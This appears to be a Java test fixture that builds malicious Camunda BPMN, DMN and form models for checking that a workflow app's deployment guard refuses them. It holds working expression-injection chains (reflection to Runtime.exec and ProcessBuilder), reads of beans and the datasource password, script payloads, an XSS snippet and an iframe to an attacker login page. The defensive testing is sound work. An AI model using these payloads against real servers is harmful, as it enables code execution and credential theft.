package com.practiceflow.security.models;

import java.util.ArrayList;
import java.util.List;

/**
 * Models a manager's stolen password could deploy to make the server run code, read what the manager may not, or
 * attack other users' browsers: expressions (reflection, Runtime, ProcessBuilder, beans, the engine's services) in
 * every position the engine evaluates one, Java classes, scripts, connectors, HTML forms, DMN in script languages
 * and FEEL calling Java. {@code MARKER} in a payload is replaced by a file that exists only if the payload ran.
 * The reflection chains follow the expression-language injection payloads published for Java EL (OWASP's
 * "Expression Language Injection" page; PortSwigger's server-side template injection research).
 */
public final class MaliciousModels {

  /**
   * One attack: the file deployed, the element a refusal must name, a phrase it must contain, and {@code runs}
   * when starting the process would evaluate the payload (for the run-time test without the guard).
   */
  public record Case(String name, String file, String content, String element, String phrase, boolean runs) {
  }

  static final String RUNTIME = "''.getClass().forName('java.lang.Runtime').getMethod('getRuntime')"
      + ".invoke(null).exec('touch MARKER')";
  static final String PROCESS_BUILDER = "''.getClass().forName('java.lang.ProcessBuilder').getConstructors()[0]"
      + ".newInstance('touch').start()";

  private MaliciousModels() {
  }

  public static List<Case> all() {
    List<Case> cases = new ArrayList<>();
    expressions(cases);
    positions(cases);
    classesAndScripts(cases);
    decisionsAndFiles(cases);
    return cases;
  }

  private static void expressions(List<Case> cases) {
    cases.add(service("Runtime.exec through reflection in a service task", "${" + RUNTIME + "}", "getClass"));
    cases.add(service("ProcessBuilder through reflection", "${" + PROCESS_BUILDER + "}", "getClass"));
    cases.add(service("deferred #{} syntax", "#{" + RUNTIME + "}", "getClass"));
    cases.add(service("the class property of a literal", "${\"\".class.forName(\"java.lang.Runtime\")}", "class"));
    cases.add(service("a bracket read of a literal's class", "${\"\"[\"class\"]}", "[...]"));
    cases.add(service("a method named by a bracket", "${execution[\"getProcessEngineServices\"]()}", "[...]"));
    cases.add(service("the application's main bean", "${practiceFlowApplication}", "practiceFlowApplication"));
    cases.add(service("a service bean's method", "${staffService.byReference(\"STF-2026-0001\")}", "staffService"));
    cases.add(service("Spring's environment (secrets)", "${environment.getProperty(\"spring.datasource.password\")}",
        "environment"));
    cases.add(service("the engine's services through the execution",
        "${execution.processEngineServices.identityService}", "processEngineServices"));
    cases.add(service("the engine through a method", "${execution.getProcessEngine()}", "getProcessEngine"));
    cases.add(service("setting routing variables from a model", "${execution.setVariable(\"ownerGroup\", \"x\")}",
        "setVariable"));
    cases.add(service("a helper's setter", "${schedules.setSchedules(null)}", "setSchedules"));
    cases.add(service("a step called as a method", "${notifyGroup.execute(execution)}", "notifyGroup.execute"));
    cases.add(service("Spin's JSON function", "${JSON(\"{}\")}", "JSON()"));
    cases.add(service("a prefixed function", "${fn:exec(\"touch MARKER\")}", "fn:exec()"));
    cases.add(service("a class chain hung off a helper's result",
        "${deadlines.addCalendarDays(now(), 1).getClass().forName(\"java.lang.Runtime\")}", "getClass"));
  }

  private static void positions(List<Case> cases) {
    cases.add(task("a task listener expression", "<bpmn:userTask id=\"Task_Probe\" name=\"Probe\""
        + " camunda:candidateGroups=\"practice-managers\" camunda:dueDate=\"2030-01-01T17:00:00\"><bpmn:extensionElements>"
        + "<camunda:taskListener event=\"create\" expression=\"${task.execution.processEngineServices}\"/>"
        + "</bpmn:extensionElements></bpmn:userTask>", "Task_Probe", "task.execution", true));
    cases.add(task("an execution listener expression", "<bpmn:task id=\"Task_Probe\" name=\"Probe\">"
        + "<bpmn:extensionElements><camunda:executionListener event=\"start\" expression=\"${" + RUNTIME + "}\"/>"
        + "</bpmn:extensionElements></bpmn:task>", "Task_Probe", "getClass", true));
    cases.add(task("an input mapping", "<bpmn:task id=\"Task_Probe\" name=\"Probe\"><bpmn:extensionElements>"
        + "<camunda:inputOutput><camunda:inputParameter name=\"x\">${" + RUNTIME + "}</camunda:inputParameter>"
        + "</camunda:inputOutput></bpmn:extensionElements></bpmn:task>", "Task_Probe", "getClass", true));
    cases.add(task("an output mapping reading a bean", "<bpmn:task id=\"Task_Probe\" name=\"Probe\">"
        + "<bpmn:extensionElements><camunda:inputOutput><camunda:outputParameter name=\"pool\">${dataSource}"
        + "</camunda:outputParameter></camunda:inputOutput></bpmn:extensionElements></bpmn:task>",
        "Task_Probe", "dataSource", true));
    cases.add(task("a user task's assignee", "<bpmn:userTask id=\"Task_Probe\" name=\"Probe\""
        + " camunda:assignee=\"${identityService.createUserQuery().list()}\" camunda:dueDate=\"2030-01-01T17:00:00\">"
        + "</bpmn:userTask>", "Task_Probe", "identityService", true));
    cases.add(task("a user task's due date", "<bpmn:userTask id=\"Task_Probe\" name=\"Probe\""
        + " camunda:candidateGroups=\"practice-managers\" camunda:dueDate=\"${" + RUNTIME + "}\">"
        + "</bpmn:userTask>", "Task_Probe", "getClass", true));
    cases.add(task("a multi-instance collection", "<bpmn:task id=\"Task_Probe\" name=\"Probe\">"
        + "<bpmn:multiInstanceLoopCharacteristics camunda:collection=\"${environment.getActiveProfiles()}\""
        + " camunda:elementVariable=\"p\"/></bpmn:task>", "Task_Probe", "environment", true));
    cases.add(task("a timer's date", "<bpmn:intermediateCatchEvent id=\"Task_Probe\" name=\"Wait\">"
        + "<bpmn:timerEventDefinition id=\"TimerEventDefinition_Probe\"><bpmn:timeDate xsi:type=\"bpmn:tFormalExpression\">"
        + "${" + RUNTIME + "}</bpmn:timeDate></bpmn:timerEventDefinition></bpmn:intermediateCatchEvent>",
        "Task_Probe", "getClass", true));
    cases.add(flow("a sequence flow condition", "<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\">"
        + "${" + RUNTIME + " == null}</bpmn:conditionExpression>", "getClass", true));
    cases.add(task("field injection into a step", "<bpmn:serviceTask id=\"Task_Probe\" name=\"Probe\""
        + " camunda:delegateExpression=\"${notifyGroup}\"><bpmn:extensionElements><camunda:field name=\"group\">"
        + "<camunda:expression>${" + RUNTIME + "}</camunda:expression></camunda:field></bpmn:extensionElements>"
        + "</bpmn:serviceTask>", "Task_Probe", "getClass", false));
    cases.add(task("a call activity's business key", "<bpmn:callActivity id=\"Task_Probe\" name=\"Probe\""
        + " calledElement=\"complaintResolution\"><bpmn:extensionElements><camunda:in businessKey=\"${" + RUNTIME
        + "}\"/></bpmn:extensionElements></bpmn:callActivity>", "Task_Probe", "getClass", true));
    cases.add(task("a message event's expression", "<bpmn:intermediateThrowEvent id=\"Task_Probe\" name=\"Tell\">"
        + "<bpmn:messageEventDefinition id=\"MessageEventDefinition_Probe\" camunda:expression=\"${" + RUNTIME
        + "}\"/></bpmn:intermediateThrowEvent>", "Task_Probe", "getClass", true));
  }

  private static void classesAndScripts(List<Case> cases) {
    cases.add(task("a service task naming a Java class", "<bpmn:serviceTask id=\"Task_Probe\" name=\"Probe\""
        + " camunda:class=\"com.practiceflow.security.models.ProbeDelegate\"></bpmn:serviceTask>",
        "Task_Probe", "Java class", true));
    cases.add(task("an execution listener class", "<bpmn:task id=\"Task_Probe\" name=\"Probe\">"
        + "<bpmn:extensionElements><camunda:executionListener event=\"start\""
        + " class=\"com.practiceflow.security.models.ProbeDelegate\"/></bpmn:extensionElements></bpmn:task>",
        "Task_Probe", "Java class", true));
    cases.add(task("a task listener class", "<bpmn:userTask id=\"Task_Probe\" name=\"Probe\""
        + " camunda:candidateGroups=\"practice-managers\" camunda:dueDate=\"2030-01-01T17:00:00\">"
        + "<bpmn:extensionElements><camunda:taskListener event=\"create\""
        + " class=\"com.practiceflow.security.models.ProbeDelegate\"/></bpmn:extensionElements>"
        + "</bpmn:userTask>", "Task_Probe", "Java class", true));
    cases.add(task("a form handler class, made when the model is parsed", "<bpmn:userTask id=\"Task_Probe\""
        + " name=\"Probe\" camunda:candidateGroups=\"practice-managers\" camunda:dueDate=\"2030-01-01T17:00:00\""
        + " camunda:formHandlerClass=\"java.lang.Object\"></bpmn:userTask>", "Task_Probe", "Java class",
        false));
    cases.add(task("a call activity's variable mapping class", "<bpmn:callActivity id=\"Task_Probe\" name=\"Probe\""
        + " calledElement=\"complaintResolution\" camunda:variableMappingClass=\"java.lang.Object\">"
        + "</bpmn:callActivity>", "Task_Probe", "Java class", false));
    cases.add(task("a script task", "<bpmn:scriptTask id=\"Task_Probe\" name=\"Probe\" scriptFormat=\"probe\">"
        + "<bpmn:script>touch MARKER</bpmn:script></bpmn:scriptTask>", "Task_Probe", "script task", true));
    cases.add(task("a script task loading an external script", "<bpmn:scriptTask id=\"Task_Probe\" name=\"Probe\""
        + " scriptFormat=\"javascript\" camunda:resource=\"deployment://run.js\"></bpmn:scriptTask>",
        "Task_Probe", "script", false));
    cases.add(task("a script in an execution listener", "<bpmn:task id=\"Task_Probe\" name=\"Probe\">"
        + "<bpmn:extensionElements><camunda:executionListener event=\"start\"><camunda:script scriptFormat=\"probe\">"
        + "touch MARKER</camunda:script></camunda:executionListener></bpmn:extensionElements></bpmn:task>",
        "Task_Probe", "script", true));
    cases.add(task("a script in an input mapping", "<bpmn:task id=\"Task_Probe\" name=\"Probe\">"
        + "<bpmn:extensionElements><camunda:inputOutput><camunda:inputParameter name=\"x\"><camunda:script"
        + " scriptFormat=\"probe\">touch MARKER</camunda:script></camunda:inputParameter></camunda:inputOutput>"
        + "</bpmn:extensionElements></bpmn:task>", "Task_Probe", "script", true));
    cases.add(flow("a script condition", "<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\""
        + " language=\"probe\">touch MARKER</bpmn:conditionExpression>", "script", true));
    cases.add(task("a connector", "<bpmn:serviceTask id=\"Task_Probe\" name=\"Probe\"><bpmn:extensionElements>"
        + "<camunda:connector><camunda:connectorId>http-connector</camunda:connectorId></camunda:connector>"
        + "</bpmn:extensionElements></bpmn:serviceTask>", "Task_Probe", "connector", false));
    cases.add(task("an embedded HTML form (scripts in staff's browsers)", "<bpmn:userTask id=\"Task_Probe\""
        + " name=\"Probe\" camunda:candidateGroups=\"practice-managers\" camunda:dueDate=\"2030-01-01T17:00:00\""
        + " camunda:formKey=\"embedded:deployment:steal.html\"></bpmn:userTask>", "Task_Probe", "form key",
        false));
    cases.add(task("a form field validator class", "<bpmn:userTask id=\"Task_Probe\" name=\"Probe\""
        + " camunda:candidateGroups=\"practice-managers\" camunda:dueDate=\"2030-01-01T17:00:00\">"
        + "<bpmn:extensionElements><camunda:formData><camunda:formField id=\"note\" type=\"string\">"
        + "<camunda:validation><camunda:constraint name=\"validator\" config=\"java.lang.Object\"/>"
        + "</camunda:validation></camunda:formField></camunda:formData></bpmn:extensionElements>"
        + "</bpmn:userTask>", "Task_Probe", "validator", false));
  }

  private static void decisionsAndFiles(List<Case> cases) {
    cases.add(dmn("a decision input in a script language", "<inputExpression id=\"InputExpression_Probe\""
        + " typeRef=\"string\" expressionLanguage=\"javascript\"><text>touch MARKER</text></inputExpression>",
        "script language"));
    cases.add(dmn("a decision input in JUEL reaching a bean", "<inputExpression id=\"InputExpression_Probe\""
        + " typeRef=\"string\" expressionLanguage=\"juel\"><text>${staffService}</text></inputExpression>",
        "staffService"));
    cases.add(dmn("a FEEL function calling Java", "<inputExpression id=\"InputExpression_Probe\" typeRef=\"string\">"
        + "<text>function(x) external { java: { class: \"java.lang.System\", method signature: \"exit(int)\" } }"
        + "</text></inputExpression>", "Java"));
    cases.add(new Case("a script file in the deployment", "run.js", "java.lang.Runtime.getRuntime().exec('touch')",
        "(the file)", ".bpmn", false));
    cases.add(new Case("a CMMN case model (its own expressions and classes)", "case.cmmn", "<definitions/>",
        "(the file)", ".bpmn", false));
    cases.add(new Case("a form with an HTML component", "steal.form", "{\"id\":\"stealForm\",\"type\":\"default\","
        + "\"components\":[{\"id\":\"Html_Steal\",\"type\":\"html\",\"content\":\"<img src=x onerror=alert(1)>\"}]}",
        "Html_Steal", "html", false));
    cases.add(new Case("a form framing another site", "frame.form", "{\"id\":\"frameForm\",\"type\":\"default\","
        + "\"components\":[{\"id\":\"Frame_Login\",\"type\":\"iframe\",\"url\":\"https://attacker.example/login\"}]}",
        "Frame_Login", "iframe", false));
  }

  private static Case service(String name, String expression, String phrase) {
    return task(name, "<bpmn:serviceTask id=\"Task_Probe\" name=\"Probe\" camunda:expression=\""
        + expression.replace("\"", "&quot;") + "\"/>", "Task_Probe", phrase, true);
  }

  private static Case task(String name, String element, String elementId, String phrase, boolean runs) {
    return new Case(name, "malicious-probe.bpmn", process(element, ""), elementId, phrase, runs);
  }

  private static Case flow(String name, String condition, String phrase, boolean runs) {
    return new Case(name, "malicious-probe.bpmn", process("<bpmn:task id=\"Task_Probe\" name=\"Probe\"/>", condition),
        "SequenceFlow_ToEnd", phrase, runs);
  }

  private static Case dmn(String name, String input, String phrase) {
    return new Case(name, "malicious-probe.dmn", """
        <?xml version="1.0" encoding="UTF-8"?>
        <definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/"
            xmlns:camunda="http://camunda.org/schema/1.0/dmn" id="Definitions_Probe" name="Probe"
            namespace="http://camunda.org/schema/1.0/dmn">
          <decision id="maliciousProbe" name="Probe" camunda:historyTimeToLive="30">
            <decisionTable id="DecisionTable_Probe">
              <input id="Input_Probe" label="Probe">%s</input>
              <output id="Output_Probe" name="result" typeRef="string"/>
              <rule id="Rule_Probe"><inputEntry id="InputEntry_Probe"><text>-</text></inputEntry>
                <outputEntry id="OutputEntry_Probe"><text>"x"</text></outputEntry></rule>
            </decisionTable>
          </decision>
        </definitions>""".formatted(input), "Input_Probe", phrase, true);
  }

  static String process(String element, String condition) {
    return """
        <?xml version="1.0" encoding="UTF-8"?>
        <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
            xmlns:camunda="http://camunda.org/schema/1.0/bpmn" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
            id="Definitions_MaliciousProbe" targetNamespace="http://bpmn.io/schema/bpmn">
          <bpmn:process id="maliciousProbe" name="Malicious probe" isExecutable="true" camunda:historyTimeToLive="30">
            <bpmn:startEvent id="StartEvent_Probe" name="Started" />
            <bpmn:sequenceFlow id="SequenceFlow_ToProbe" sourceRef="StartEvent_Probe" targetRef="Task_Probe" />
            %s
            <bpmn:sequenceFlow id="SequenceFlow_ToEnd" sourceRef="Task_Probe" targetRef="EndEvent_Probe">%s</bpmn:sequenceFlow>
            <bpmn:endEvent id="EndEvent_Probe" name="Done" />
          </bpmn:process>
        </bpmn:definitions>""".formatted(element, condition);
  }
}
